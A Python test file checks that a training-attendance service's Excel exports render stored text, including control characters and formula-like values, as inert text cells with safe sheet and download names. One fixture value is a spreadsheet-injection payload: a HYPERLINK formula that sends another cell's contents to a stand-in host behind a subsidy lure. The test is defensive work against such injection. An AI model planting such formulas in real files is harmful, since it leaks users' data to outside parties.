"""Every Excel export answers 200 with stored text that predates input checks (control characters,
formula-like enterprise names, an anonymous comment): nothing is a formula, text reads as stored
minus the characters XML cannot hold, and no log line carries the personal text."""

import io

import openpyxl
import pytest
from bson import ObjectId

from service.attendance import roster
from tests.conftest import bearer
from tests.factories import beijing_today

YEAR = beijing_today().year  # the programme year of the factories' classes
HYPERLINK = '=HYPERLINK("http://x.invalid/?d="&F2,"点击领取补贴")'


def exports(klass, registration_id):
    cid = klass.id
    return [f"/api/v1/classes/{cid}/roster.xlsx", f"/api/v1/classes/{cid}/roster.xlsx?for_certificates=true",
            f"/api/v1/classes/{cid}/completion.xlsx", f"/api/v1/classes/{cid}/attendance-sheet.xlsx",
            f"/api/v1/reports/classes/{cid}.xlsx", f"/api/v1/reports/archives/{registration_id}.xlsx",
            f"/api/v1/classes/{cid}/timetable.xlsx", f"/api/v1/classes/{cid}/quotas.xlsx",
            f"/api/v1/classes/{cid}/trainee-forms.xlsx", f"/api/v1/years/{YEAR}/class-plan.xlsx",
            f"/api/v1/regions/110000/years/{YEAR}/evaluation.xlsx"]


def cells(response):
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.fixture
def stored(app, client, db, ended_class, mark):
    klass = ended_class(trainees=2, regions=("110000",))
    mark(klass, 0, 0, "present")
    rated = client.post(f"/api/v1/sessions/{klass.session_ids[0]}/rating", json={"stars": 2, "comment": "还行"},
                        headers=bearer(klass.trainees[0].token))
    assert rated.status_code == 201, rated.json
    # Rows as stored before text was checked.
    first = ObjectId(klass.trainees[0].registration_id)
    db.registrations.update_one({"_id": first}, {"$set": {
        "snapshot.name": "钱\u000b多多", "snapshot.position": "-总经理\x00", "snapshot.enterprise.name": HYPERLINK}})
    db.ratings.update_many({}, {"$set": {"comment": "=1+1\x07差评"}})
    db.classes.update_one({"_id": ObjectId(klass.id)}, {"$set": {"name": "第一期/二期:联合班[试点]*?"}})
    with app.app_context():
        roster.invalidate()
    return klass


def test_every_export_answers_with_text_cells_only(client, stored, admin_token, caplog):
    texts = []
    for url in exports(stored, stored.trainees[0].registration_id):
        response = client.get(url, headers=bearer(admin_token))
        assert response.status_code == 200, (url, response.status_code)
        found = cells(response)
        assert all(cell.data_type != "f" for cell in found), url
        for cell in found:
            if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                assert cell.quotePrefix, (url, cell.value)
        texts.append((url, [cell.value for cell in found]))
        disposition = response.headers["Content-Disposition"]
        assert "/" not in disposition.split("filename*=UTF-8''", 1)[1]
    by_url = dict(texts)
    roster_values = by_url[exports(stored, "")[0]]
    assert "钱多多" in roster_values and HYPERLINK in roster_values and "-总经理" in roster_values
    assert "钱多多" in by_url[exports(stored, "")[2]]  # completion list
    assert "钱多多" in by_url[exports(stored, "")[3]]  # attendance sheet
    assert "=1+1差评" in by_url[exports(stored, "")[4]]  # the anonymous comment in the class report
    forms = by_url[exports(stored, "")[8]]  # 附1-3: the index and the trainee's own sheet
    assert forms.count("钱多多") == 2 and forms.count(HYPERLINK) == 2 and "-总经理" in forms
    assert "第一期/二期:联合班[试点]*?" in by_url[exports(stored, "")[9]]  # 附1-2 class plan
    assert "钱\u000b多多" not in caplog.text


def test_sheet_names_and_download_names_are_legal_for_any_class_name(client, stored, admin_token):
    response = client.get(f"/api/v1/classes/{stored.id}/roster.xlsx", headers=bearer(admin_token))
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    assert all(len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in workbook.sheetnames)
    assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
